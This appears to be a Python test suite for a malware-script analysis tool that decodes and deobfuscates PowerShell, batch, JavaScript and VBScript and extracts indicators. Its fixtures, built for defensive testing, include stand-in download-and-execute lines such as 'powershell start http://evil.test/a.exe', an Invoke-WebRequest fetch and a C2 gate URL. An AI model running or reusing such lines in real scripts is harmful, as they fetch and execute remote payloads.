"""Functions on their own: validators, decoders, evaluator, cmd arithmetic, rewriting, layers."""

import base64
import bz2
import codecs
import gzip
import io
import random
import zipfile
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lamina.functions import checks
from lamina.kernel import batch, decoders, layers, rewrite
from lamina.kernel.psexpr import Stop, evaluate, risky, shown
from lamina.operators.extract import checked
from lamina.sources.scripts import decode_bytes, members


@pytest.mark.parametrize("text, ok", [("2001:db8::1", True), ("::", False), ("::dead", False), ("::1", True), ("a::b", True), ("12:34", False), ("1:2:3:4:5:6:7:8:9", False)])
def test_ipv6(text, ok):
    assert checks.ipv6(text) is ok


def test_wallet_checksums():
    good = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"  # the first block's address
    assert checks.base58check(good) and not checks.base58check(good[:-1] + "b") and not checks.base58check("0OIl")
    bech = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"  # from the standard
    assert checks.bech32(bech) and not checks.bech32(bech[:-1] + "5")


@pytest.mark.parametrize("text, kind", [("198.51.100.7", "documentation"), ("127.0.0.1", "loopback"), ("169.254.1.1", "link-local"), ("10.0.0.1", "private"), ("224.0.0.5", "multicast"), ("8.8.8.8", "public"), ("x", "invalid"), (None, "invalid"), ("2001:db8::5", "documentation"), ("100.64.0.1", "reserved")])
def test_ip_category(text, kind):
    assert checks.ip_category(text) == kind


def test_checked_families():
    text = "ping 2001:db8::7 at [2001:db8::8]:8443, \"C:\\Program Files\\a b\\x.exe\" then \\\\host\\share\\f.txt and schtasks /create /tn Nightly /tr x; New-Service -Name 'Svc'; pay 1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa 0x" + "ab" * 20
    got = set(checked(text))
    assert {("ip", "2001:db8::7"), ("ipv6_port", "[2001:db8::8]:8443"), ("ip", "2001:db8::8"), ("file_path", "C:\\Program Files\\a b\\x.exe"), ("unc_path", "\\\\host\\share\\f.txt"), ("scheduled_task", "Nightly"), ("service_name", "Svc"), ("crypto_wallet", "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"), ("crypto_wallet", "0x" + "ab" * 20)} <= got
    assert checked("") == [] and checked(None) == []
    assert checks.artefact("$name") is None and checks.artefact("{0}") is None and checks.artefact("-x") is None


@pytest.mark.parametrize("codec, mark", [("utf-8", b"\xef\xbb\xbf"), ("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff"), ("utf-32-le", b"\xff\xfe\0\0"), ("utf-16-le", b""), ("utf-16-be", b""), ("utf-8", b"")])
def test_decode_bytes(codec, mark):
    assert decode_bytes(mark + "Write-Host 'some text here'".encode(codec)) == "Write-Host 'some text here'"
    assert decode_bytes(b"\xff\x41") == "\ufffdA" and decode_bytes(b"") == "" and decode_bytes(None) is None


def test_zip_members():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("a/b.ps1", "x")
        z.writestr("../c.exe", "x")
        z.writestr("d.txt", "")
        z.writestr("e.js", "y" * 10)
    got = members(buffer.getvalue(), room=2)
    assert got == [("b.ps1", "x", None), ("c.exe", None, "type"), ("d.txt", None, "empty"), ("e.js", "y" * 10, None)]
    assert members(b"no")[0][2] == "not an archive" and members(buffer.getvalue(), room=1)[-1][2] == "count"


EVALUATED = [
    ("'a' + 'b'", "ab"), ("-join ('a','b')", "ab"), ("'a-b' -split '-' -join '+'", "a+b"), ("'{0:X2}|{1,4}|{2}' -f 10,'r','z'", "0A|   r|z"), ("'{{}}' -f 1", "{}"), ("7 % 3", "1"), ("-7 % 3", "-1"), ("7/2", "3.5"), ("6/2", "3"),
    ("255 -shl 24", "-16777216"), ("-bnot 0", "-1"), ("5 -bxor 3", "6"), ("[char]8364", "\u20ac"), ("[char[]](72,105) -join ''", "Hi"), ("1..3 -join ','", "1,2,3"), ("3..1 -join ','", "3,2,1"), ("(1..3 | % { $_ * 2 }) -join ' '", "2 4 6"),
    ("'abc'[1]", "b"), ("'abc'[-1]", "c"), ("'abc'[2,0] -join ''", "ca"), ("'abc'.Substring(1)", "bc"), ("'abc'.Insert(1,'-')", "a-bc"), ("'abc'.Remove(1)", "a"), ("'a'.PadLeft(3,'.')", "..a"), ("'abab'.IndexOf('b')", "1"), ("'xAx'.Trim('x')", "A"),
    ("[Convert]::ToInt32('ff',16)", "255"), ("[Convert]::ToString(5,2)", "101"), ("[Convert]::ToInt16('ffff',16)", "-1"), ("[Text.Encoding]::ASCII.GetString([byte[]](104,105))", "hi"), ("[string]::Join('-','a','b')", "a-b"), ("'a.b' -replace '\\.','$$'", "a$b"),
    ("'AbC' -creplace 'b','x'", "xbC".replace("x", "A", 1).replace("b", "x", 1)), ("\"q`tz\"", "q\tz"), ("'ab'.Length", "2"), ("1kb", "1024"), ("0x1F", "31"), ("'a'*3", "aaa"), ("[int]'42' + 1", "43"),
]


@pytest.mark.parametrize("expression, value", EVALUATED)
def test_evaluate(expression, value):
    assert shown(evaluate(expression)) == value


@pytest.mark.parametrize("expression", ["$unknown", "'abc'[9]", "'abc'.Substring(5)", "Get-Date", "'{2}' -f 1", "1/0", "'a' -replace '(a+)+', 'b'", "(" * 60 + "1" + ")" * 60, "", "'a' +", "[Convert]::FromBase64String('*')", "\"$x\"", "'a'.Foo()"])
def test_unknown_stays_unknown(expression):
    with pytest.raises(Stop):
        evaluate(expression)


def test_risky_patterns():
    assert risky("(a+)+") and risky("a" * 300) and risky("a{1,5000}") and not risky("a+b*")


@given(st.text(alphabet=st.characters(min_codepoint=32, max_codepoint=126), max_size=40))
@settings(max_examples=200, deadline=None)
def test_fold_keeps_meaning(text):
    half = len(text) // 2
    lit = lambda s: "'" + s.replace("'", "''") + "'"
    out, *_ = rewrite.rewrite(f"$x = {lit(text[:half])} + {lit(text[half:])}", "powershell")
    assert out == f"$x = {lit(text)}"


@pytest.mark.parametrize("text, out", [
    ('echo %nope%x', 'echo x'),
    ('echo 100%%', 'echo 100%'),
    ('echo a%u:~0,1%b', 'echo a~0,1b'),
    ('echo %TEMP%\\x', 'echo %TEMP%\\x'),
    ('set a=abc\necho %a:~1%', 'set a=abc\necho bc'),
    ('set a=1\ngoto end\nset a=2\n:end\necho %a%', 'set a=1\ngoto end\nset a=2\n:end\necho 1'),
    ('for %%i in (a b) do echo %%i', 'echo a\necho b'),
    ('setlocal enabledelayedexpansion\nset a=x\necho !a!y', 'setlocal enabledelayedexpansion\nset a=x\necho xy'),
    ('setlocal\nset a=x\nendlocal\necho [%a%]', 'setlocal\nset a=x\nendlocal\necho []'),
    ('set /a n=2+3*4\necho %n%', 'set /a n=2+3*4\necho 14'),
    ('echo a^&b', 'echo a&b'),
    ('set a=1\nif exist x set a=2\necho %a%', 'set a=1\nif exist x set a=2\necho %a%'),
    (':top\nset a=1\necho %a%\ngoto top', ':top\nset a=1\necho %a%\ngoto top'),
    ('echo %windir%', 'echo C:\\Windows'),
    ('echo %1 %~dp0 %*', 'echo %1 %~dp0 %*'),
])
def test_batch_phases(text, out):
    assert batch.resolve(text) == out


def test_batch_line_beyond_the_limit_stays():
    line = "echo %a%%a%"
    assert batch.expand(line, {"a": "x" * 5000}) == line


@pytest.mark.parametrize("lang, text, out", [
    ("powershell", "W`rite-Host ('a'+'b')", "Write-Host 'ab'"), ("powershell", '$u = "http://"+"x"', '$u = "http://x"'), ("powershell", "# 'a'+'b'", "# 'a'+'b'"), ("powershell", "$a = 'x'; $b = $a + 'y'", "$a = 'x'; $b = 'xy'"),
    ("powershell", "$y = $x + 'a'", "$y = $x + 'a'"), ("powershell", "function f { param($h) return $h * 9 }\n$h = 'q'", "function f { param($h) return $h * 9 }\n$h = 'q'"), ("powershell", "'it''s ' + 'ok'", "'it''s ok'"),
    ("javascript", "x = 'a' + \"b\" + 'c'", "x = 'abc'"), ("javascript", "x = '\\x41\\u0042'", "x = 'AB'"), ("javascript", "x = 'abcd'.substr(1,2).toUpperCase()", "x = 'BC'"), ("javascript", "o['run'](1)", "o.run(1)"), ("javascript", "x='a,b'.split(',').join('')", "x='ab'"),
    ("vbscript", 'x = "a" & Chr(&H42) & Chr(66 + 1)', 'x = "aBC"'), ("vbscript", 'x = Replace("a-b","-","+")', 'x = "a+b"'), ("vbscript", 'x = Left("abc",2) & Right("abc",1)', 'x = "abc"'), ("vbscript", 'x = "a" & _\n  "b"', 'x = "ab"'), ("vbscript", 'x = Join(Split("a.b","."),"")', 'x = "ab"'),
    ("batch", "s^et a=b\necho %a%c", "set a=b\necho bc"), ("batch", "set /a n=2+3*4\necho %n%", "set /a n=2+3*4\necho 14"), ("batch", "echo %none%x", "echo x"), ("command", "echo %none% %%", "echo %none% %%"), ("batch", "set a=x\nif 1==1 set a=y\necho %a%", "set a=x\nif 1==1 set a=y\necho %a%"), ("batch", "rem ^a %b%", "rem ^a %b%"),
])
def test_rewrite(lang, text, out):
    got = rewrite.rewrite(text, lang)
    assert got[0] == out and got[3]
    assert rewrite.rewrite(out, lang)[0] == out


@pytest.mark.parametrize("expression, value", [("1<<31", -2147483648), ("7/-2", -3), ("-7 % 3", -1), ("0x10+010", 24), ("~0", -1), ("(1+2)*3", 9), ("5^3", 6), ("undefined+1", 1)])
def test_cmd_arithmetic(expression, value):
    assert batch.calculate(expression, {}) == value


def test_cmd_unknown():
    for bad in ("1/0", "1+", "08", "a b"):
        with pytest.raises(batch.Unknown):
            batch.calculate(bad, {})
    assert batch.modified("abcdef", "~1,3") == "bcd" and batch.modified("abcdef", "~-2") == "ef" and batch.modified("abcdef", "~0,-2") == "abcd" and batch.modified("abXcd", "*x=") == "cd"


SCRIPT = "powershell start http://evil.test/a.exe now and then"


@pytest.mark.parametrize("encoded", [
    base64.b64encode(SCRIPT.encode()).decode(), base64.urlsafe_b64encode(SCRIPT.encode()).decode(), base64.b32encode(SCRIPT.encode()).decode(), SCRIPT.encode().hex(), "\\x" + SCRIPT.encode().hex(" ").replace(" ", "\\x"), " ".join(str(b) for b in SCRIPT.encode()), " ".join(f"{b:03o}" for b in SCRIPT.encode()),
    "".join(f"{b:08b}" for b in SCRIPT.encode()), "".join(f"%{b:02x}" for b in SCRIPT.encode()), "".join(f"&#{b};" for b in SCRIPT.encode()), codecs.encode(SCRIPT, "rot13"), SCRIPT[::-1], base64.a85encode(SCRIPT.encode()).decode(),
    *(base64.b64encode(f(SCRIPT.encode())).decode() for f in (gzip.compress, zlib.compress, bz2.compress, lambda b: bytes(x ^ 0x5A for x in b), lambda b: b.decode().encode("utf-16-le"), base64.b64encode)),
])
def test_recipes(encoded):
    assert decoders.search(encoded).output == SCRIPT


@pytest.mark.parametrize("text", ["", "short", SCRIPT, "a" * 300_000, "900150983cd24fb0d6963f7d28e17f72", "Lorem ipsum dolor sit amet, consetetur"])
def test_no_recipe(text):
    assert decoders.search(text) is None


def test_inflate_is_bounded():
    assert len(decoders.inflate(gzip.compress(bytes(50_000_000)))[1]) <= decoders.MOST_OUT


def test_inflate_is_whole_or_refused():
    big = b"a" * (decoders.MOST_OUT + 1)
    for pack in (gzip.compress, zlib.compress, bz2.compress, lambda b: zlib.compress(b)[2:-4]):
        assert decoders.inflate(pack(big), decoders.MOST_INFLATE)[1:] == (big, None)
        assert decoders.inflate(pack(big))[1:] == (b"", "max_decompression")
        assert decoders.inflate(pack(SCRIPT.encode() * 9)[:-12])[1:] == (b"", "incomplete_stream")
    assert decoders.inflate(gzip.compress(b"a" * 9) + gzip.compress(b"b" * 9)).output == b"a" * 9 + b"b" * 9
    assert decoders.search(base64.b64encode(gzip.compress(SCRIPT.encode() * 20_000)).decode()) is None


@pytest.mark.parametrize("before", [0, 600, 5000, 100_000])
def test_xor_reads_the_whole(before):
    text = "0;9" * (before // 3) + "\nhttps://c2.test/gate"
    assert decoders.xor(bytes(b ^ 0x5A for b in text.encode())) == ("XOR 0x5a", text.encode())
    words = ";" * before + " and so the rest of this note is read to the end" * (before // 20 + 1)
    assert decoders.xor(bytes(b ^ 0x5A for b in words.encode()))[1] == words.encode()
    assert decoders.xor(bytes(b ^ 0x5A for b in (text + "\0" * before).encode())) is None or not before


def test_variables_are_whole():
    value = "x" * 9_990 + " http://border.test/long/path.exe " + "y" * 9_000
    assert rewrite.variables(f"$a = '{value}'", "powershell") == {"a": value}


def test_layers_of_large_stages():
    rng = random.Random(1)
    lines = "".join(f"Write-Host '{rng.randbytes(40).hex()}'\n" for _ in range(11_000))
    packed = gzip.compress((lines + "Invoke-WebRequest http://behind.test/a.exe").encode())
    r = layers.analyse(f"$s = IO.Compression.GzipStream '{base64.b64encode(packed).decode()}'")
    assert len(lines) > 1_000_000 and r.layers[1].content.endswith("http://behind.test/a.exe") and r.layers[1].final.endswith("http://behind.test/a.exe") and not r.limits
    cut = layers.analyse(f"$s = IO.Compression.GzipStream '{base64.b64encode(packed[:9000]).decode()}'")
    assert len(cut.layers) == 1 and cut.limits == ["incomplete_stream"]
    bomb = layers.analyse(f"$s = IO.Compression.GzipStream '{base64.b64encode(gzip.compress(bytes(decoders.MOST_INFLATE + 1))).decode()}'")
    assert len(bomb.layers) == 1 and bomb.limits == ["max_decompression"]


def encoded(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


def test_layers():
    deep = "Write-Host 'x'"
    for _ in range(15):
        deep = f"powershell -enc {encoded(deep)}"
    r = layers.analyse(deep)
    assert len(r.layers) == 13 and "max_layer_depth" in r.limits and r.path(r.layers[-1]).count("/") == 12
    same = f"iex 'Write-Host \"a\"'\niex 'Write-Host \"a\"'"
    assert len(layers.analyse(same).layers) == 2
    assert [x.language for x in layers.analyse("eval('var z = 1; function q() {}');var a = 1;\nvar b = 2;").layers] == ["javascript", "javascript"]
    packed = base64.b64encode(gzip.compress(b"$a = New-Object Net.WebClient; Invoke-Expression $a; Write-Host done")).decode()
    assert layers.analyse(f"$s = IO.Compression.GzipStream '{packed}'").layers[1].edge == "DECOMPRESS"
    for odd in (None, "", "\0\0", "'" * 1000, "(" * 5000, "é" * 10_000):
        assert layers.analyse(odd).layers[0].id == 1


@pytest.mark.parametrize("text, lang", [("$a = 1; $b = New-Object X; Write-Host $a", "powershell"), ("@echo off\r\nset a=1\r\ngoto end", "batch"), ("var a = 1; function f() { return a; }", "javascript"), ("Dim a\nSet b = CreateObject(\"x\")", "vbscript"), ("just some words", "text"), ("<job id=1><package>", "wsf"), ("", "text")])
def test_language(text, lang):
    assert rewrite.language(text) == lang
    assert rewrite.language(text, "batch") == "batch"


def test_cmd_loops_and_delayed_expansion():
    assert batch.loop_values("for /l %%i in (3,-1,1) do echo %%i") == ["echo 3", "echo 2", "echo 1"]
    assert batch.loop_values('for %a in (x "y z" w) do run %a') == ["run x", 'run "y z"', "run w"]
    assert batch.loop_values('for /f "tokens=2,3 delims=," %a in ("p,q,r") do echo %a%b') == ["echo qr"]
    assert batch.loop_values("for /f %a in (file.txt) do echo %a") is None and batch.loop_values("for /l %i in (1,0,3) do x") is None and batch.loop_values("for %a in (*.exe) do x") is None
    assert batch.run("setlocal EnableDelayedExpansion\nset a=hey\necho !a:~1!\nendlocal\necho !a!")[0].split("\n")[2:] == ["echo ey", "endlocal", "echo !a!"]


@pytest.mark.parametrize("text, out", [("& 'Get-Date'", "Get-Date"), ("gci; ls", "Get-ChildItem; Get-ChildItem"), ("$x.sort()", "$x.sort()"), ("sort = 1", "sort = 1"), ("Set-Alias q Get-Item; q", "Set-Alias q Get-Item; Get-Item"), ("$env:ComSpec[4,15,25] -join ''", "'iex'"), ("$b = 41,44; for ($i=0; $i -lt 2; $i++) { $b[$i] = $b[$i] -bxor 65 }", "$b = 41,44; $b = 'hm'")])
def test_powershell_commands(text, out):
    assert rewrite.rewrite(text, "powershell")[0] == out


def test_inspect():
    from lamina.kernel import inspect

    assert inspect.statements("$a = 1; if ($b) { c; d }\ne 'x;y'") == ["$a = 1", "if ($b) { c; d }", "e 'x;y'"]
    assert len(inspect.statements("a;" * 6000)) == 6000
    assert len(decoders.candidates("\n".join(f"x = 'value-number-{i:06d}'" for i in range(500)))) >= 500
    assert inspect.revealed('$a = "q"; Write-Host "x $a" "$b"', {"a": "q"}) == ["x q"]
    assert inspect.masked("'http://x.test/a'.Replace('a','b') 'http://y.test/'") == "'               '.Replace('a','b') 'http://y.test/'"
    assert inspect.defanged("see http://a.test/x and 10.0.0.1:80 or e.g. this") == "see hxxp://a[.]test/x and 10[.]0[.]0[.]1:80 or e.g. this"
    noise = "Qm9yZWQ3x9ZkLmV0Ynd5cHRvT2ZmT25Ub0xlZnRSaWdodFVwRG93bkluT3V0QWJvdmUxMjM0NTY3ODkw"
    assert inspect.residual("x = " + "8f" * 20) == [] and inspect.entropy("aabb") == 1.0
    assert all(len(b) <= 99 for b in inspect.residual_blobs(noise * 2))
    for odd in ("", "'" * 999, "(" * 999, "é" * 999):
        inspect.statements(odd), inspect.residual(odd), inspect.masked(odd), inspect.defanged(odd)


def test_refused_stages_are_named():
    inner = "Write-Host 'x'; $q = 1"
    for _ in range(4):
        inner = "iex '" + inner.replace("'", "''") + "'"
    r = layers.analyse("$z = 1\n" + inner, most_levels=2)
    assert r.limits == ["max_layer_depth"] and [len(x.refused) for x in r.layers] == [0, 0, 1] and r.layers[2].refused[0].startswith("max_layer_depth: HANDOFF invoke-expression, ")
